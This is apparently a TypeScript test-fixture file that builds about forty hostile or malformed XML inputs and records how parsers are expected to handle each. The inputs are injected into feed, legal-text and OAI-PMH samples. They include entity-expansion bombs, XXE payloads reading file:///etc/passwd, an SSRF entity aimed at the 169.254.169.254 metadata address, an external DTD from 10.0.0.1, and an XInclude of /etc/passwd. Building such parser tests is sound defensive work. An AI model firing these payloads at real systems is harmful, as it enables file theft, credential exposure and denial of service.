import type { Described, Expectation } from './answer.ts';
import { homes, spoilt, type Home } from './homes.ts';

/** Markup as attackers and careless programs write it, for every kind that reads XML. */

type Made = { head?: string; title?: string; attributes?: string; end?: string; whole?: (text: string) => string };
type Attack = { name: string; from: string; make: () => Made; expected?: Expectation | ((home: Home) => Expectation); items?: number };

/** Where a title stands in each sample. */
const titles: Record<string, RegExp> = {
  feed: /(<item>[^]*?<title[^>]*>)[^]*?(<\/title>)/,
  'feed (Atom)': /(<entry>[^]*?<title[^>]*>)[^]*?(<\/title>)/,
  sttinfo: /(<item>[^]*?<title[^>]*>)[^]*?(<\/title>)/,
  finlex: /(<docTitle[^>]*>)[^]*?(<\/docTitle>)/,
  lausuntopalvelu: /(<d:Name>)[^]*?(<\/d:Name>)/,
  'oai-pmh': /(<dc:title[^>]*>)[^]*?(<\/dc:title>)/,
};
const root = /<(?![?!])[\w:.-]+/;

/** The sample with something put before its root, into its first title, into its root's tag or at its end. */
function written({ name, text }: Home, { head = '', title, attributes = '', end = '', whole = (all) => all }: Made): string {
  const titled =
    title === undefined ? text : text.replace(titles[name] ?? /$^/, (_, open: string, close: string) => `${open}${title}${close}`);
  const begun = titled.replace(root, (tag) => `${head}${tag}${attributes}`);
  return whole(end ? begun.replace(/(<\/[^<]*)$/, `${end}$1`) : begun);
}

const doctype = (inside: string) => `<!DOCTYPE x [${inside}]>\n`;
const laughs = ['a', 'b', 'c', 'd', 'e', 'f', 'g', 'h', 'i'].map(
  (name, n, all) => `<!ENTITY ${name} "${(n ? `&${all[n - 1]};` : 'ha').repeat(10)}">`,
);
const times = (count: number, one: (n: number) => string) => Array.from({ length: count }, (_, n) => one(n)).join('');

/** Kinds that look for their root near the beginning. */
const readUnlessLong = ({ name, own }: Home): Expectation => (['finlex', 'oai-pmh'].includes(name) ? own : 'read');

/** Nobody reads these: a feed may, others do as with any other form. */
const tooDeep: Expectation = 'unreadable';

export const attacks: Attack[] = [
  { name: 'a billion laughs', from: 'CVE-2003-1564', make: () => ({ head: doctype(laughs.join('')), title: '&i;' }) },
  {
    name: 'a quadratic blow-up',
    from: 'CWE-776: one long entity used often',
    make: () => ({ head: doctype(`<!ENTITY a "${'a'.repeat(50_000)}">`), title: '&a;'.repeat(20_000) }),
    expected: readUnlessLong,
  },
  {
    name: 'entities in a circle',
    from: 'XML 1.0 §4.1: no recursion',
    make: () => ({ head: doctype('<!ENTITY a "&b;"><!ENTITY b "&a;">'), title: '&a;' }),
  },
  {
    name: 'a file of this machine',
    from: 'XXE (CWE-611): file:///etc/passwd',
    make: () => ({ head: doctype('<!ENTITY x SYSTEM "file:///etc/passwd">'), title: '&x;' }),
  },
  {
    name: 'a file of this machine through a parameter',
    from: 'XXE out of band: parameter entities',
    make: () => ({
      head: doctype('<!ENTITY % f SYSTEM "file:///etc/hostname"><!ENTITY % d SYSTEM "http://10.0.0.1/x.dtd">%d;'),
      title: '&x;',
    }),
  },
  {
    name: 'an address within the network',
    from: 'XXE as SSRF: 169.254.169.254',
    make: () => ({ head: doctype('<!ENTITY x SYSTEM "http://169.254.169.254/latest/meta-data/">'), title: '&x;' }),
  },
  {
    name: 'a DOCTYPE of elsewhere',
    from: 'XML 1.0 §2.8: external subset',
    make: () => ({ head: '<!DOCTYPE x SYSTEM "http://10.0.0.1/x.dtd">' }),
  },
  {
    name: 'a DOCTYPE with a public name',
    from: 'RSS 0.91: Netscape’s DTD, gone since 2001',
    make: () => ({
      head: '<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://my.netscape.com/publish/formats/rss-0.91.dtd">',
    }),
  },
  {
    name: 'a DOCTYPE within quotes within comments',
    from: 'Parsers that look for ]> by pattern',
    make: () => ({ head: doctype(`<!-- ]> --><!ENTITY a "]>"><!ENTITY b ']>">'>`) }),
    expected: 'settled',
  },
  {
    name: 'an entity of XInclude',
    from: 'XInclude 1.0',
    make: () => ({ title: '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" href="file:///etc/passwd"/>' }),
    expected: 'settled',
  },
  {
    name: 'a stylesheet',
    from: 'xml-stylesheet: XSLT with document()',
    make: () => ({ head: '<?xml-stylesheet type="text/xsl" href="http://10.0.0.1/x.xsl"?>' }),
  },
  {
    name: 'ten thousand instructions',
    from: 'XML 1.0 §2.6',
    make: () => ({ head: times(10_000, (n) => `<?a${n} b?>`) }),
    expected: 'settled',
  },
  {
    name: 'an instruction in a title',
    from: 'PHP left in a template',
    make: () => ({ title: 'Otsikko <?php echo 1; ?> ja <?xml version="1.0"?>' }),
    expected: 'settled',
  },
  {
    name: 'CDATA in CDATA',
    from: 'XML 1.0 §2.7: it does not nest',
    make: () => ({ title: '<![CDATA[a <![CDATA[b]]> c' }),
    expected: 'settled',
  },
  { name: 'CDATA without an end', from: 'XML 1.0 §2.7', make: () => ({ title: '<![CDATA[a' }), expected: 'settled' },
  {
    name: 'CDATA that closes everything',
    from: 'Elements within text: parsers by pattern',
    make: () => ({ title: '<![CDATA[</title></item></entry></record></channel></rss>]]>Otsikko' }),
  },
  { name: 'a comment without an end', from: 'XML 1.0 §2.5', make: () => ({ title: '<!-- a' }), expected: 'settled' },
  { name: 'two hyphens within a comment', from: 'XML 1.0 §2.5', make: () => ({ head: '<!-- a -- b --- >-->' }), expected: 'settled' },
  {
    name: 'ten thousand namespaces',
    from: 'Namespace bombs',
    make: () => ({ attributes: times(10_000, (n) => ` xmlns:n${n}="urn:${n}"`) }),
  },
  {
    name: 'a namespace bound to a script',
    from: 'XML Namespaces §3',
    make: () => ({ attributes: ' xmlns:js="javascript:alert(1)" xmlns:xml2=""' }),
  },
  {
    name: 'twenty thousand attributes',
    from: 'Attribute bombs (CVE-2012-0876: hash collisions)',
    make: () => ({ attributes: times(20_000, (n) => ` a${n}="b"`) }),
    expected: 'settled',
  },
  {
    name: 'an attribute twice',
    from: 'XML 1.0 §3.1: unique attributes',
    make: () => ({ attributes: ' a="1" a="2" A="3"' }),
    expected: 'settled',
  },
  {
    name: 'an attribute of two megabytes',
    from: 'Buffers of parsers',
    make: () => ({ attributes: ` a="${'b'.repeat(2_000_000)}"` }),
    expected: 'settled',
  },
  { name: 'an attribute without an end', from: 'XML 1.0 §3.1', make: () => ({ attributes: ' a="' }), expected: 'settled' },
  {
    name: 'a hundred thousand elements within each other',
    from: 'Stack exhaustion (CVE-2016-3627 and others)',
    make: () => ({ title: '<a>'.repeat(100_000) }),
    expected: tooDeep,
  },
  {
    name: 'a hundred thousand elements within each other, and closed',
    from: 'Stack exhaustion',
    make: () => ({ end: '<a>'.repeat(100_000) + '</a>'.repeat(100_000) }),
    expected: tooDeep,
  },
  {
    name: 'two hundred thousand elements beside each other',
    from: 'Trees of objects: some hundred bytes each',
    make: () => ({ end: '<a/>'.repeat(200_000) }),
    expected: 'settled',
  },
  {
    name: 'an element with a name of a megabyte',
    from: 'Buffers of parsers',
    make: () => ({ end: `<${'a'.repeat(1_000_000)}/>` }),
    expected: 'settled',
  },
  { name: 'elements closed in the wrong order', from: 'XML 1.0 §3', make: () => ({ title: '<b><i>Otsikko</b></i>' }), expected: 'settled' },
  { name: 'elements that were never opened', from: 'XML 1.0 §3', make: () => ({ end: '</a></b></c>' }), expected: 'settled' },
  {
    name: 'two roots',
    from: 'XML 1.0 §2.1',
    make: () => ({ whole: (text) => `${text}${text.replace(/<\?xml[^>]*\?>/, '')}` }),
    expected: 'settled',
  },
  {
    name: 'text after the root',
    from: 'Analytics scripts added by a host',
    make: () => ({ whole: (text) => `${text}<!-- served by a --><script>a()</script>` }),
  },
  {
    name: 'a warning before the declaration',
    from: 'PHP: display_errors',
    make: () => ({ whole: (text) => `<br />\n<b>Notice</b>: x\n${text}` }),
    expected: (home) => home.own,
  },
  {
    name: 'references to characters that are none',
    from: 'XML 1.0 §2.2 and §4.1',
    make: () => ({ title: 'a&#0;&#1;&#8;&#xD800;&#xFFFE;&#x110000;&#99999999999999;&#x;&#;b' }),
  },
  { name: 'two hundred thousand references', from: 'CVE-2024-28757 and its like', make: () => ({ title: '&#65;'.repeat(200_000) }) },
  {
    name: 'names of entities that nobody has declared',
    from: 'HTML’s entities in XML',
    make: () => ({ title: 'a&nbsp;&auml;&unknown;&amp;amp;&' }),
    expected: 'settled',
  },
  { name: 'a title of five megabytes', from: 'No standard has a limit', make: () => ({ title: 'ab '.repeat(1_700_000) }) },
  {
    name: 'a title of two megabytes of angle brackets',
    from: 'Patterns that look for the end of a tag',
    make: () => ({ title: '&lt;'.repeat(500_000) }),
  },
  {
    name: 'XML 1.1',
    from: 'XML 1.1 §2.8',
    make: () => ({ whole: (text) => text.replace(/<\?xml[^>]*\?>/, '<?xml version="1.1" encoding="UTF-8" standalone="yes"?>') }),
  },
  {
    name: 'a declaration without an end',
    from: 'XML 1.0 §2.8',
    make: () => ({ whole: (text) => text.replace(/\?>/, '') }),
    expected: 'settled',
  },
  {
    name: 'two megabytes of blanks before',
    from: 'Patterns that skip blanks',
    make: () => ({ whole: (text) => `${' \n'.repeat(1_000_000)}${text}` }),
    expected: 'settled',
  },
  {
    name: 'two megabytes of comments before',
    from: 'Patterns that skip comments',
    make: () => ({ whole: (text) => `${'<!-- -->'.repeat(250_000)}${text.replace(/<\?xml[^>]*\?>/, '')}` }),
    expected: 'settled',
  },
  {
    name: 'two megabytes of instructions without an end before',
    from: 'Patterns that skip instructions',
    make: () => ({ whole: (text) => `${'<?'.repeat(1_000_000)}${text}` }),
    expected: 'settled',
  },
  {
    name: 'a megabyte of DOCTYPEs',
    from: 'Patterns that skip a DOCTYPE',
    make: () => ({ whole: (text) => `${'<!DOCTYPE a '.repeat(80_000)}${text}` }),
    expected: 'settled',
  },
];

export const xml: Described[] = homes
  .filter(({ format }) => format === 'xml')
  .flatMap((home) =>
    attacks.map(({ name, from, make, expected = 'read' }): Described => ({
      name: `${home.name}: ${name}`,
      kind: home.kind,
      source: home.source,
      says: spoilt(home, () => written(home, make())),
      from,
      expected: typeof expected === 'function' ? expected(home) : expected,
    })),
  );
